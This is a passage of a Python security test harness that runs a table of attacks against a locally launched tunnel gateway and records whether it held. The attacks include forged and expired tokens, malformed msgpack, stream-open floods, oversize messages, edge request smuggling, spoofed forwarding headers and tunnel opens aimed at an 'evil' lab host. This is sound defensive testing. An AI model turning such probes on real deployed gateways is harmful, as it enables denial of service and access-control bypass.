        ("loopback", gw.url, {}),
        ("X-Forwarded-For", gw.url, {"X-Forwarded-For": "203.0.113.9"}),
        ("Via", gw.url, {"Via": "1.1 proxy"}),
    ]
    ip = non_loopback_ip()
    if ip:
        probes.append(("non-loopback " + ip, f"http://{ip}:{gw.port}", {}))
    for label, url, headers in probes:
        status, body = await get_status(ctx.http, url + hp.STATUS_PATH, headers=headers)
        details = status == 200 and b"upstreams" in body
        out.append(f"{label}: {status} details {'yes' if details else 'no'}")
        numbers[label] = {"status": status, "details": details}
    return Row("status_details", "/.hopgate/status details", "; ".join(out), numbers)


def non_loopback_ip() -> str | None:
    with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect(("192.0.2.1", 9))
        ip = s.getsockname()[0]
        if not ip.startswith("127."):
            return str(ip)
    return None


# ------------------------------------------------------------- what held


async def held_ids(ctx: Ctx) -> Row:
    gw = ctx.lab.sidecar("--resume-grace", "1")
    http = ctx.http
    c = await hp.create_session(http, gw.url)
    base = f"{gw.url}{hp.SESSION_PATH}/"
    q = {"last": "0", "epoch": "1"}
    forged_id, _ = await get_status(
        http, base + "A" * 22, params=q, headers={hp.TOKEN_HEADER: c.token}
    )
    forged_tok, _ = await get_status(
        http, base + c.session_id, params=q, headers={hp.TOKEN_HEADER: "x" * 43}
    )
    await asyncio.sleep(3.5)
    expired, _ = await get_status(
        http, base + c.session_id, params=q, headers={hp.TOKEN_HEADER: c.token}
    )
    ok = forged_id == 404 and forged_tok == 403 and expired == 404
    return Row(
        "held_ids",
        "forged/replayed/expired ids and tokens",
        f"forged id {forged_id}, forged token {forged_tok}, expired/replayed id "
        f"{expired}: {'refused' if ok else 'NOT refused'}",
        {"forged_id": forged_id, "forged_token": forged_tok, "expired": expired},
        kind="held",
    )


async def held_malformed(ctx: Ctx) -> Row:
    gw = ctx.lab.sidecar()
    worst = 0.0
    neighbour_ok = True
    closed_all = True
    async with hp.HostilePeer(gw.url) as neighbour:
        for bad in hp.MALFORMED:
            victim = hp.HostilePeer(gw.url)
            await victim.connect()
            t0 = time.monotonic()
            await victim.send_session_raw(bad)
            ended = await victim.until(lambda v=victim: v.closed is not None, 2.0)
            worst = max(worst, time.monotonic() - t0)
            closed_all &= ended
            await victim.aclose()
            sid = neighbour.sid()
            await neighbour.send(hp.open_http(sid, "GET", "/still", [("Host", "x")]))
            st = await neighbour.complete(sid, 5)
            neighbour_ok &= st.head is not None and st.head[2] == 200
    return Row(
        "held_malformed",
        "malformed msgpack",
        f"{len(hp.MALFORMED)} kinds of malformed msgpack: each closed its session: "
        f"{'yes' if closed_all else 'NO'} in <= {worst:.3f} s; neighbour session "
        f"unaffected: {'yes' if neighbour_ok else 'NO'}",
        {"worst_s": worst, "closed": closed_all, "neighbour_ok": neighbour_ok},
        kind="held",
    )


async def held_opens(ctx: Ctx) -> Row:
    n = ctx.s["opens"]
    gw = ctx.lab.sidecar()
    await ctx.lab.seen(ctx.http)
    async with hp.HostilePeer(gw.url, timeout=30) as peer:
        sids = [peer.sid() for _ in range(n)]
        for i in range(0, n, 100):
            await peer.send(
                *(hp.open_http(s, "GET", "/hold?s=20", [("Host", "x")]) for s in sids[i : i + 100])
            )
        await peer.until(lambda: sum(1 for s in sids if peer.streams[s].reset) >= n - 256, 20)
        await asyncio.sleep(1.0)
        resets = sum(1 for s in peer.streams.values() if s.reset)
        closed = peer.closed
    seen = await ctx.lab.seen(ctx.http)
    at_origin = sum(1 for e in seen if e["path"].startswith("/hold"))
    return Row(
        "held_opens",
        "stream OPENs in one session",
        f"{n:,} stream OPENs in one session: {n - resets:,} admitted, {resets:,} reset, "
        f"{at_origin} reached the origin (cap 256); session "
        f"{'closed ' + str(closed) if closed else 'still open'}",
        {"admitted": n - resets, "at_origin": at_origin},
        kind="held",
    )


async def held_oversize(ctx: Ctx) -> Row:
    gw = ctx.lab.sidecar()
    async with hp.HostilePeer(gw.url, timeout=20) as peer:
        # The gateway may close before the last byte (a lower per-message cap).
        with contextlib.suppress(ConnectionError, aiohttp.ClientError):
            await peer.send(b"\x00" * (16 * MiB + 1))
        await peer.until(lambda: peer.closed is not None, 10)
        await peer.until(lambda: peer.ws_close_code is not None, 2)
        closed = peer.closed
        code = peer.ws_close_code
    return Row(
        "held_oversize",
        "16 MiB + 1 message",
        f"a 16 MiB + 1 session message: closed with {closed[0] if closed else 'nothing'}"
        f" (WebSocket close {code})",
        {"code": closed[0] if closed else None},
        kind="held",
    )


async def held_edge_smuggling(ctx: Ctx) -> Row:
    gw = ctx.lab.sidecar()
    await ctx.lab.seen(ctx.http)
    out = []
    all_400 = True
    for label, req in hp.EDGE_SMUGGLING.items():
        status = hp.status_of(await raw(gw.port, req, 3))
        all_400 &= status == 400
        out.append(f"{label} {status}")
    await asyncio.sleep(0.3)
    seen = await ctx.lab.seen(ctx.http)
    return Row(
        "held_edge_smuggling",
        "edge smuggling",
        f"{', '.join(out)}; requests at the origin: {len(seen)}",
        {"all_400": all_400, "at_origin": len(seen)},
        kind="held",
    )


async def held_open_variants(ctx: Ctx) -> Row:
    gw = ctx.lab.sidecar()
    await ctx.lab.seen(ctx.http)
    variants = hp.open_variants(ctx.lab.evil_port)
    sids = []
    async with hp.HostilePeer(gw.url) as peer:
        for method, target, headers in variants:
            sid = peer.sid()
            sids.append(sid)
            await peer.send(hp.open_http(sid, method, target, headers))
            await peer.answer(sid, 5)
        ws_sid = peer.sid()
        await peer.send(
            hp.open_ws(ws_sid, f"http://127.0.0.1:{ctx.lab.evil_port}/ws", [("Host", "x")])
        )
        await peer.answer(ws_sid, 5)
        await asyncio.sleep(0.5)
        refused = sum(1 for s in sids if peer.streams[s].refused)
        alive = peer.closed is None
    seen = await ctx.lab.seen(ctx.http)
    evil = sum(1 for e in seen if e["site"] == "evil")
    steal_at_main = sum(1 for e in seen if e["site"] == "main")
    return Row(
        "held_open_variants",
        "tunnel OPENs naming another host",
        f"{len(variants)} tunnel OPEN variants (+1 WS) naming another host: {refused} "
        f"refused, reached the other host: {evil}, reached the upstream: "
        f"{steal_at_main}; session {'still open' if alive else 'closed'}",
        {"variants": len(variants), "refused": refused, "evil": evil},
        kind="held",
    )


ATTACKS: dict[str, Callable[[Ctx], Awaitable[Row]]] = {
    "smuggle": attack_smuggle,
    "ws_reassembly": attack_ws_reassembly,
    "unread": attack_unread,
    "stalled_posts": attack_stalled_posts,
    "slowloris": attack_slowloris,
    "held_polls": attack_held_polls,
    "fd_lockout": attack_fd_lockout,
    "idle_sessions": attack_idle_sessions,
    "fill_sessions": attack_fill_sessions,
    "host_confusion": attack_host_confusion,
    "status_confusion": attack_status_confusion,
    "bad_numbers": attack_bad_numbers,
    "replay": attack_replay,
    "status_details": attack_status_details,
    "held_ids": held_ids,
    "held_malformed": held_malformed,
    "held_opens": held_opens,
    "held_oversize": held_oversize,
    "held_edge_smuggling": held_edge_smuggling,
    "held_open_variants": held_open_variants,
}


async def run(args: argparse.Namespace) -> list[Row]:
    lab = Lab(Path(args.tree).resolve(), args.python)
    lab.start_origin()
    ctx = Ctx(lab, SCALES[args.scale], args.rss_cap)
    rows = []
    names = args.only.split(",") if args.only else list(ATTACKS)
    try:
        for name in names:
            t0 = time.monotonic()
            try:
                async with asyncio.timeout(args.attack_timeout):
                    row = await ATTACKS[name](ctx)
            except Exception as exc:  # a broken attack is a row too, never a stopped table
                row = Row(name, name, f"attack failed: {type(exc).__name__}: {exc}"[:300])
            finally:
                died = [p for p in lab.procs if not p.alive() and not p.stopped]
                lab.stop_gateways()
            if died:
                row.figure += f" [gateway process died: exit {died[0].proc.returncode}]"
            row.numbers["wall_s"] = round(time.monotonic() - t0, 1)
            rows.append(row)
            if not args.json:
                print(f"{row.key:<20} {row.figure}", flush=True)
    finally:
        await ctx.close()
        lab.stop()
    return rows


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--tree", default=str(REPO), help="source tree of the gateway under test")
    parser.add_argument("--python", default=sys.executable, help="interpreter for the gateways")
    parser.add_argument("--scale", choices=sorted(SCALES), default="small")
    parser.add_argument("--only", default="", help="comma-separated attack keys")
    parser.add_argument("--json", action="store_true", help="one JSON document instead of rows")
    parser.add_argument("--json-file", help="also write the JSON document to this file")
    parser.add_argument("--rss-cap", type=float, default=6000.0, help="MiB; cut an attack off")
    parser.add_argument("--attack-timeout", type=float, default=900.0, help="seconds per attack")
    parser.add_argument("--serve-origin", action="store_true", help=argparse.SUPPRESS)
    args = parser.parse_args()
    if args.serve_origin:
        origin_main()
        return
    if not args.json:
        print(
            f"# hopgate attack table: tree {args.tree} "
            f"(commit {git_head(Path(args.tree))}), scale {args.scale}",
            flush=True,
        )
    started = time.monotonic()
    rows = asyncio.run(run(args))
    document = json.dumps(
        {
            "tree": args.tree,
            "commit": git_head(Path(args.tree)),
            "scale": args.scale,
            "rows": [row.__dict__ for row in rows],
        },
        indent=2,
        default=str,
    )
    if args.json_file:
        Path(args.json_file).write_text(document + "\n")
    if args.json:
        print(document)
    else:
        print(f"# {len(rows)} attacks in {time.monotonic() - started:.0f} s", flush=True)


def git_head(tree: Path) -> str:
    with contextlib.suppress(Exception):
        return subprocess.run(
            ["git", "-C", str(tree), "rev-parse", "--short", "HEAD"],
            capture_output=True,
            text=True,
            check=True,
        ).stdout.strip()
    return "?"


if __name__ == "__main__":
    main()
